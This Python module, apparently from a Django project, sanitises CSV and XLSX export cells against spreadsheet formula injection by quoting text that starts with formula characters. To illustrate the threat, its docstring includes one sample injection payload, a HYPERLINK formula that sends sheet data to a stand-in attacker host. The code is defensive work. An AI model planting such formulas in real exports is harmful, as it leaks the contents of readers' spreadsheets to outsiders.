"""Cells for the CSV and XLSX files the system writes: one rule against formula injection.

A spreadsheet program runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some of them,
after a leading tab or carriage return) as a formula: a target description
``=HYPERLINK("https://evil.example/?"&A1, "Open")`` would leak the sheet or run a command on the
reader's machine. Every export passes its cells through ``safe_cell`` (OWASP's rule: such text is
written with a leading single quote, which spreadsheet programs read as "this is text").

Numbers stay numbers: an int, float or Decimal is returned as it is, and so is text that is only a
number (``-5``, ``-1,250.50``), which no program reads as a formula.
"""

import csv
import re

from django.utils.functional import Promise

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?(\d{1,3}(,\d{3})+|\d+)(\.\d+)?")


def safe_cell(value):
    """``value`` as it may go into a CSV or XLSX cell: formula-like text gets a leading ``'``."""
    if isinstance(value, Promise):  # a lazy translation
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values) -> list:
    return [safe_cell(v) for v in values]


class CsvWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``."""

    def __init__(self, out, **options):
        self._writer = csv.writer(out, **options)

    def writerow(self, values):
        return self._writer.writerow(safe_row(values))

    def writerows(self, rows):
        for values in rows:
            self.writerow(values)


def append(sheet, values):
    """``sheet.append(values)`` (openpyxl) with every cell through ``safe_cell``."""
    sheet.append(safe_row(values))
